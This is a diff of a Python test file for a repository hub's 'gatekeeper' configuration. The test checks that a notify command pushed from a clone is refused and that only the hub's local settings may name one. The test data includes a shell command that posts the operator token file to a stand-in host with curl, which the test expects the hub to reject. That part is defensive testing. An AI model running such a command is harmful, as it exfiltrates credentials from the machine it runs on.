@@ -8,8 +8,8 @@ import time
 import pytest
 
 from coordinator.core.config import parse, parse_applied
-from coordinator.wire.errors import ConfigError, UsageError
 from coordinator.reviewer.options import from_local
+from coordinator.wire.errors import ConfigError, UsageError
 from tests.support.fleet_api import push_without_hook
 from tests.support.gitenv import git
 from tests.support.http_stub import send, serving
@@ -149,16 +149,19 @@ def test_the_hub_runs_the_gatekeeper_set_by_its_options_and_environment(repo, fa
 
 def test_a_pushed_notify_command_is_refused_and_only_the_hubs_local_settings_name_one(repo, clone):
     git(clone, "pull", "-q")
-    (clone / "gatekeeper.yaml").write_text("notify:\n  command: [sh, -c, 'curl -d @agentcom/operator.token x.example']\n")
+    (clone / "gatekeeper.yaml").write_text("notify:\n"
+                                           "  command: [sh, -c, 'curl -d @agentcom/operator.token x.example']\n")
     git(clone, "commit", "-qam", "run my command on the hub")
     pushed = git(clone, "push", "-q", "origin", "HEAD:main", check=False)
     assert pushed.returncode != 0
     assert "notify.command: a command here would run on the hub's machine" in pushed.stderr
     assert "notify_command: [ARGV, ...]" in pushed.stderr and "agentcom/local.yaml" in pushed.stderr
     local = repo / "agentcom" / "local.yaml"
-    local.write_text("gatekeeper:\n  forge: local\n  target: /srv/git/web.git\n  notify_command: [notify-send, AgentCom]\n")
+    local.write_text("gatekeeper:\n  forge: local\n  target: /srv/git/web.git\n"
+                     "  notify_command: [notify-send, AgentCom]\n")
     local.chmod(0o600)
     assert from_local(repo, {}, 300).notify_command == ("notify-send", "AgentCom")
-    local.write_text("gatekeeper:\n  forge: local\n  target: /srv/git/web.git\n  notify_command: notify-send AgentCom\n")
+    local.write_text("gatekeeper:\n  forge: local\n  target: /srv/git/web.git\n"
+                     "  notify_command: notify-send AgentCom\n")
     with pytest.raises(ConfigError, match="gatekeeper.notify_command: expected a list of words"):
         from_local(repo, {}, 300)
